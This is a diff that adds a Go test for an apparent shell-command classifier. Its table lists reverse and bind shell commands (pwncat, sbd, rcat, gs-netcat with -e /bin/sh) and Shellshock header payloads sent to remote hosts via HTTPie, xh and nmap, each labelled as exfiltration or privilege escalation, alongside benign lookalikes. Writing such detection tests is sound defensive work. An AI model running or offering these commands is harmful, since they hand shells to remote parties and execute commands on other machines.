@@ -133,3 +133,47 @@ func TestTempIsNoGeneratedFolder(t *testing.T) {
 		checkRow(t, tt.cmd, tt.want)
 	}
 }
+
+// TestShellsServedByOtherClients: a shell handed to a network peer is a
+// family beyond nc, ncat and socat (README: reverse and bind shells are
+// network-exfiltration; a bare listener is everyday). Members from the
+// tools' own documentation: pwncat's (cytopia) and sbd's -e/--exec,
+// rustcat's "rcat connect -s SHELL" (its README's reverse shell; "rcat
+// listen -ib" is the listener), gs-netcat's "-l -i" (its README: the
+// server side serves an interactive shell; "-i" alone is the client).
+// Shellshock (CVE-2014-6271) sent to another host runs commands there:
+// privilege-escalation as remote command injection (README's dev7 and
+// heldout7 calls: shellshock through ssh -t escapes a forced command),
+// whether it rides curl's headers (decided before), HTTPie's or xh's
+// header items, or nmap's http-shellshock script with a cmd argument (its
+// NSE documentation); a local test of one's own bash is everyday. Through
+// ssh's command the labels disagree (heldout5 n0338 everyday, heldout7
+// s0087 privilege-escalation: tuning.md, round 7), so it is left unmarked.
+func TestShellsServedByOtherClients(t *testing.T) {
+	for _, tt := range []struct {
+		cmd, want string
+	}{
+		{`pwncat -e '/bin/bash' 10.0.0.1 4444`, NetworkExfiltration},
+		{`pwncat -l -e '/bin/bash' 8080`, NetworkExfiltration},
+		{`pwncat --exec /bin/sh 10.0.0.1 4444`, NetworkExfiltration},
+		{`sbd -e /bin/sh 10.0.0.1 4444`, NetworkExfiltration},
+		{`rcat connect -s bash 10.0.0.1 4242`, NetworkExfiltration},
+		{`rcat connect --shell /bin/sh 10.0.0.1 4242`, NetworkExfiltration},
+		{`gs-netcat -l -i`, NetworkExfiltration},
+		{`gs-netcat -s MySecret -l -e /bin/sh`, NetworkExfiltration},
+		{`pwncat -l 4444`, ""},
+		{`sbd -l -p 4444`, ""},
+		{`rcat listen -ib 4242`, ""},
+		{`rcat listen 4242`, ""},
+		{`gs-netcat -s MySecret -i`, ""},
+		{`http GET http://10.0.0.5/cgi-bin/status 'User-Agent:() { :; }; /bin/bash -c id'`, PrivilegeEscalation},
+		{`xh http://10.0.0.5/cgi-bin/test.cgi "Referer:() { :;}; echo; /bin/cat /etc/passwd"`, PrivilegeEscalation},
+		{`nmap -sV -p 80 --script http-shellshock --script-args uri=/cgi-bin/bin,cmd=ls 10.0.0.5`, PrivilegeEscalation},
+		{`ssh user@host -t 'uptime'`, ""},
+		{`ssh host 'f() { uptime; }; f'`, ""},
+		{`http GET http://10.0.0.5/ User-Agent:curl/8.0`, ""},
+		{`env x='() { :;}; echo vulnerable' bash -c 'echo this is a test'`, ""},
+	} {
+		checkRow(t, tt.cmd, tt.want)
+	}
+}
